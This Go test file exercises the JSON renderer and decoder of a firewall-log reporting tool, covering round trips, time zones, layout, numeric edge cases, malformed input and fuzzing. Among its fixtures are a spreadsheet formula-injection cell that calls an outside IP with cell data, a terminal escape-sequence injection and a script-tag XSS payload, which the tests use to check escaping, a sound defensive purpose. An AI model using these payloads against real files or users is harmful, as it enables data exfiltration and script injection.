package json

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
	_ "time/tzdata"
	"unicode/utf8"

	"fwreport/report"
	"fwreport/report/reporttest"

	"github.com/google/go-cmp/cmp"
)

func render(t *testing.T, r *report.Report, opt Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Render(&b, r, opt); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// same compares reports by their rows' values, nil and empty lists alike.
func same(t *testing.T, got, want *report.Report) {
	t.Helper()
	opts := cmp.Options{
		cmp.Transformer("rows", func(t report.Table) any { return flatten(t) }),
		cmp.Comparer(func(a, b report.Zone) bool { return a.String() == b.String() }),
		cmp.FilterPath(func(p cmp.Path) bool {
			k := p.Last().Type().Kind()
			return k == reflect.Slice || k == reflect.Map
		}, cmp.FilterValues(func(a, b any) bool { return reflect.ValueOf(a).Len() == 0 && reflect.ValueOf(b).Len() == 0 }, cmp.Ignore())),
	}
	if d := cmp.Diff(want, got, opts); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

type flat struct {
	ID, Title, Doc string
	Columns        []report.Column
	Rows           []string
	TotalRows      int
	TotalCount     uint64
}

func flatten(t report.Table) flat {
	f := flat{ID: t.ID, Title: t.Title, Doc: t.Doc, Columns: t.Columns, TotalRows: t.TotalRows, TotalCount: t.TotalCount}
	for row := range t.Rows {
		cells := ""
		for _, v := range row {
			cells += fmt.Sprintf("%s %q|", v.Kind(), v.String())
		}
		f.Rows = append(f.Rows, cells)
	}
	return f
}

// cleanse is the sample as it must come back: bytes that are no UTF-8 spelled out.
func cleanse(r *report.Report) {
	spell := strings.NewReplacer("\xe9 \xff\xfe", `\xe9 \xff\xfe`, "\xff\x1b", `\xff`+"\x1b").Replace
	r.Evidence.Inputs[0].Rejects[0].Text = spell(r.Evidence.Inputs[0].Rejects[0].Text)
	table := r.Table("prefixes")
	var rows [][]report.Value
	for row := range table.Rows {
		row = slices.Clone(row)
		row[1], row[2] = report.TextOf(spell(row[1].Str())), report.EvidenceOf(spell(row[2].Str()))
		rows = append(rows, row)
	}
	table.Rows = report.RowsOf(rows)
}

func TestRoundTrip(t *testing.T) {
	b := render(t, reporttest.Sample(), Options{})
	if !json.Valid(b) || !utf8.Valid(b) {
		t.Fatal("not valid JSON in UTF-8")
	}
	got, err := Decode(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	want := reporttest.Sample()
	cleanse(want)
	same(t, got, want)
	if again := render(t, got, Options{}); !bytes.Equal(again, b) {
		t.Error("rendering the decoded report gives other bytes")
	}
	if again := render(t, reporttest.Sample(), Options{}); !bytes.Equal(again, b) {
		t.Error("rendering twice gives other bytes")
	}
}

func TestRoundTripOfZone(t *testing.T) {
	r := reporttest.Sample()
	for _, name := range []string{"Europe/Berlin", "UTC+05:30", "UTC-03:00"} {
		r.Zone = name
		got, err := Decode(bytes.NewReader(render(t, r, Options{})))
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]string{"Europe/Berlin": "01:00", "UTC+05:30": "05:30", "UTC-03:00": "21:00"}[name]
		if at := time.Unix(0, 0).UTC().AddDate(56, 0, 0).In(got.Location).Format("15:04"); at != want || got.Zone != name {
			t.Errorf("%s: UTC midnight of 2026-01-01 is %s in %s, want %s", name, at, got.Zone, want)
		}
	}
}

// TestForm reads the output as a user's script would: by the names of REPORT.md.
func TestForm(t *testing.T) {
	var doc map[string]any
	if err := json.Unmarshal(render(t, reporttest.Sample(), Options{}), &doc); err != nil {
		t.Fatal(err)
	}
	at := func(path ...any) any {
		var v any = doc
		for _, p := range path {
			switch p := p.(type) {
			case string:
				m, ok := v.(map[string]any)
				if _, there := m[p]; !ok || !there {
					t.Fatalf("%v: nothing at %q", path, p)
				}
				v = m[p]
			case int:
				v = v.([]any)[p]
			}
		}
		return v
	}
	for _, tt := range []struct {
		path []any
		want any
	}{
		{[]any{"schema"}, "fwreport.report/1"},
		{[]any{"title"}, "Firewall report"},
		{[]any{"generator", "name"}, "fwreport"},
		{[]any{"generator", "version"}, "1.2.3"},
		{[]any{"command", 4}, "logs/"},
		{[]any{"zone"}, "UTC"},
		{[]any{"window", "since"}, "2026-03-01T00:00:00Z"},
		{[]any{"window", "until"}, nil},
		{[]any{"span", "first"}, "2026-03-01T00:00:02Z"},
		{[]any{"span", "last"}, "2026-03-07T23:59:58.25Z"},
		{[]any{"evidence", "totals", "read"}, 12360.0},
		{[]any{"evidence", "totals", "repeats"}, 7.0},
		{[]any{"evidence", "inputs", 0, "path"}, "logs/kern.log.2.gz"},
		{[]any{"evidence", "inputs", 0, "compression"}, "gzip"},
		{[]any{"evidence", "inputs", 0, "size"}, 1234567.0},
		{[]any{"evidence", "inputs", 0, "mtime"}, "2026-03-08T06:25:01Z"},
		{[]any{"evidence", "inputs", 0, "records", "duplicates"}, 20.0},
		{[]any{"evidence", "inputs", 0, "reasons", "no SRC"}, 4.0},
		{[]any{"evidence", "inputs", 0, "losses", 0, "lost"}, 40.0},
		{[]any{"evidence", "inputs", 2, "size"}, nil},
		{[]any{"evidence", "inputs", 2, "format"}, nil},
		{[]any{"evidence", "inputs", 2, "first"}, nil},
		{[]any{"sections", 0, "findings", 0, "confidence"}, "observed"},
		{[]any{"sections", 0, "findings", 0, "evidence", 0}, "logs/kern.log.2.gz:1"},
		{[]any{"sections", 0, "charts", 0, "kind"}, "stacked-bars"},
		{[]any{"sections", 0, "charts", 0, "y", 2}, "undetermined"},
		{[]any{"sections", 1, "tables", 0, "columns", 1, "id"}, "src"},
		{[]any{"sections", 1, "tables", 0, "columns", 1, "kind"}, "address"},
		{[]any{"sections", 1, "tables", 0, "columns", 1, "key"}, true},
		{[]any{"sections", 1, "tables", 0, "total_rows"}, 2.0},
		{[]any{"sections", 1, "tables", 0, "total_count"}, 12000.0},
		{[]any{"sections", 1, "tables", 0, "rows", 0}, []any{11000.0, "203.0.113.7", 6000.0, 22.0, "TCP", 440000.0, 0.9166666666666666,
			"EXAMPLE-NET, Example Ltd.", "2026-03-01T00:00:02Z", "2026-03-07T23:59:58.25Z", "1m30s", "logs/kern.log.2.gz:1"}},
		{[]any{"sections", 1, "tables", 0, "rows", 1}, []any{1000.0, "2001:db8:1234:5678:9abc:def0:1234:5678", nil, 0.0, "", 0.0, 0.0001,
			nil, nil, nil, nil, "logs/=cap.pcap#3"}},
		{[]any{"sections", 1, "tables", 1, "rows"}, []any{}},
		{[]any{"sections", 2, "tables", 0, "rows", 0, 1}, `=HYPERLINK("http://198.51.100.9/?"&A1,"click")`},
		{[]any{"sections", 2, "tables", 0, "rows", 14, 1}, "\x1b[2J\x1b]0;owned\agone"},
		{[]any{"sections", 2, "tables", 0, "rows", 16, 1}, "<script>alert(1)</script>"},
		{[]any{"sections", 2, "tables", 0, "rows", 18, 1}, `caf\xe9 \xff\xfe`},
		{[]any{"sections", 2, "tables", 0, "rows", 25, 1}, reporttest.Long()},
	} {
		if got := at(tt.path...); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%v = %#v, want %#v", tt.path, got, tt.want)
		}
	}
}

func TestOrderAndLayout(t *testing.T) {
	out := string(render(t, reporttest.Sample(), Options{}))
	last := -1
	for _, key := range []string{"schema", "title", "generator", "command", "zone", "window", "span", "evidence", "sections"} {
		i := strings.Index(out, "\n  \""+key+"\": ")
		if i <= last {
			t.Errorf("%q stands at %d, not behind %d", key, i, last)
		}
		last = i
	}
	line := `            ["2026-03-01T02:00:00Z",16,1,0],` + "\n"
	if !strings.Contains(out, line) {
		t.Errorf("no line %q", line)
	}
	for _, bad := range []string{"<", ">", "&", "\u2028", "\x1b"} {
		if strings.Contains(out, bad) {
			t.Errorf("%q stands in the output unescaped", bad)
		}
	}
}

func TestLimit(t *testing.T) {
	got, err := Decode(bytes.NewReader(render(t, reporttest.Big(100), Options{Limit: 3})))
	if err != nil {
		t.Fatal(err)
	}
	table := got.Table("big")
	if n := len(flatten(*table).Rows); n != 3 || table.TotalRows != 100 || table.TotalCount != 5050 {
		t.Errorf("%d rows of %d, %d events; want 3 of 100, 5050", n, table.TotalRows, table.TotalCount)
	}
}

func TestNumbers(t *testing.T) {
	for _, tt := range []struct {
		v    report.Value
		want string
	}{
		{report.CountOf(math.MaxUint64), "18446744073709551615"},
		{report.PortOf(65535), "65535"},
		{report.RatioOf(0), "0"},
		{report.RatioOf(1), "1"},
		{report.RatioOf(1.0 / 3), "0.3333333333333333"},
		{report.RatioOf(math.NaN()), "null"},
		{report.RatioOf(math.Inf(1)), "null"},
		{report.TimeOf(math.MinInt64 + 1), `"1677-09-21T00:12:43.145224193Z"`},
		{report.TimeOf(math.MaxInt64), `"2262-04-11T23:47:16.854775807Z"`},
		{report.TimeOf(report.NoTime), "null"},
		{report.DurationOf(-1), `"-1ns"`},
		{report.Null, "null"},
		{report.EmptyText(""), `""`},
		{report.EmptyText("\u2028"), `"\u2028"`},
		{report.EmptyText("a\xffb\x00\u00e9"), `"a\\xffb\u0000` + "\u00e9" + `"`},
	} {
		if got := string(appendCell(nil, tt.v)); got != tt.want {
			t.Errorf("%v: %s, want %s", tt.v, got, tt.want)
		}
		var back any
		d := json.NewDecoder(strings.NewReader(tt.want))
		d.UseNumber()
		if err := d.Decode(&back); err != nil {
			t.Fatal(err)
		}
		if got, err := cell(tt.v.Kind(), back); err != nil || back != nil && tt.v.Kind() != report.Text && got != tt.v {
			t.Errorf("%s read back as %v, %v", tt.want, got, err)
		}
	}
}

func TestRenderRefuses(t *testing.T) {
	for name, row := range map[string][]report.Value{
		"2 cells for 3 columns": {report.CountOf(1), report.AddressText("192.0.2.1")},
		`column "action"`:       {report.CountOf(1), report.AddressText("192.0.2.1"), report.CountOf(1)},
	} {
		r := reporttest.Big(0)
		r.Sections[0].Tables[0].Rows = report.RowsOf([][]report.Value{row})
		if err := Render(io.Discard, r, Options{}); err == nil || !strings.Contains(err.Error(), name) || !strings.Contains(err.Error(), "table big, row 1") {
			t.Errorf("error is %v, want one with %q", err, name)
		}
	}
}

type full struct{ room int }

var errFull = errors.New("no space left")

func (f *full) Write(b []byte) (int, error) {
	if f.room -= len(b); f.room < 0 {
		return 0, errFull
	}
	return len(b), nil
}

func TestWriteError(t *testing.T) {
	for _, room := range []int{0, 100, 200_000} {
		if err := Render(&full{room}, reporttest.Big(100_000), Options{}); !errors.Is(err, errFull) {
			t.Errorf("room %d: error is %v", room, err)
		}
	}
}

func TestDecodeRefuses(t *testing.T) {
	table := func(columns, rows string) string {
		return `{"schema":"fwreport.report/1","sections":[{"tables":[{"id":"t","columns":[` + columns + `],"rows":[` + rows + `]}]}]}`
	}
	for _, tt := range []struct{ in, want string }{
		{``, "unexpected EOF"},
		{`[]`, "[ where { is due"},
		{`{}`, `schema is ""`},
		{`{"schema":"other/9"}`, `schema is "other/9"`},
		{`{"schema":"fwreport.report/1"`, "EOF"},
		{`{"schema":"fwreport.report/1"} {}`, "something stands behind"},
		{`{"schema":"fwreport.report/1","zone":"Nowhere/At-All"}`, `zone "Nowhere/At-All"`},
		{`{"schema":"fwreport.report/1","zone":"Local"}`, `zone "Local"`},
		{`{"schema":"fwreport.report/1","span":{"first":"yesterday"}}`, `"yesterday" is not RFC 3339`},
		{`{"schema":"fwreport.report/1","span":{"first":"9999-01-01T00:00:00Z"}}`, "out of range"},
		{`{"schema":"fwreport.report/1","sections":[{"tables":[{"rows":[[1]]}]}]}`, "1 cells for 0 columns"},
		{table(`{"id":"c","kind":"count"}`, `[1,2]`), "2 cells for 1 columns"},
		{table(`{"id":"c","kind":"count"}`, `[1],[-1]`), `sections: 1: tables: 1: table "t": rows: 2: column "c"`},
		{table(`{"id":"c","kind":"count"}`, `[1.5]`), `"1.5"`},
		{table(`{"id":"c","kind":"count"}`, `["1"]`), `no cell of kind "count"`},
		{table(`{"id":"c","kind":"port"}`, `[65536]`), "out of range"},
		{table(`{"id":"c","kind":"text"}`, `[1]`), `no cell of kind "text"`},
		{table(`{"id":"c","kind":"text"}`, `[{"a":1}]`), `no cell of kind "text"`},
		{table(`{"id":"c","kind":"time"}`, `["soon"]`), "not RFC 3339"},
		{table(`{"id":"c","kind":"duration"}`, `["long"]`), "invalid duration"},
		{table(`{"id":"c","kind":"colour"}`, `["red"]`), `kind "colour"`},
	} {
		if _, err := Decode(strings.NewReader(tt.in)); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s\n error is %v, want one with %q", tt.in, err, tt.want)
		}
	}
}

func TestDecodeSkipsUnknown(t *testing.T) {
	in := `{"schema":"fwreport.report/1","new":{"a":[1,{"b":null}]},"zone":"UTC","sections":[{"id":"s","newer":[1,2],"tables":[{"newest":{}}]}]}`
	r, err := Decode(strings.NewReader(in))
	if err != nil || r.Sections[0].ID != "s" || r.Window.Since != report.NoTime {
		t.Errorf("%+v, %v", r, err)
	}
}

// TestMemory renders a table of a million rows that no memory holds at once.
func TestMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("a million rows: left out with -short")
	}
	r := reporttest.Big(1_000_000)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if err := Render(io.Discard, r, Options{}); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if grown := after.TotalAlloc - before.TotalAlloc; grown > 1<<20 {
		t.Errorf("rendering allocated %d bytes in all, want less than a megabyte", grown)
	}
}

func FuzzDecode(f *testing.F) {
	var b bytes.Buffer
	if err := Render(&b, reporttest.Sample(), Options{Limit: 5}); err != nil {
		f.Fatal(err)
	}
	f.Add(b.Bytes())
	f.Add([]byte(`{"schema":"fwreport.report/1","zone":"UTC+01:00","sections":[{"tables":[{"columns":[{"kind":"ratio"}],"rows":[[1e400],[0.5]]}]}]}`))
	f.Fuzz(func(t *testing.T, in []byte) {
		r, err := Decode(bytes.NewReader(in))
		if err != nil {
			return
		}
		first := render(t, r, Options{})
		again, err := Decode(bytes.NewReader(first))
		if err != nil {
			t.Fatalf("cannot read what was written: %v\n%s", err, first)
		}
		if second := render(t, again, Options{}); !bytes.Equal(first, second) {
			t.Fatalf("not stable:\n%s\n%s", first, second)
		}
	})
}

func BenchmarkRows(b *testing.B) {
	r := reporttest.Big(100_000)
	for b.Loop() {
		if err := Render(io.Discard, r, Options{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)*100_000/b.Elapsed().Seconds(), "rows/s")
}
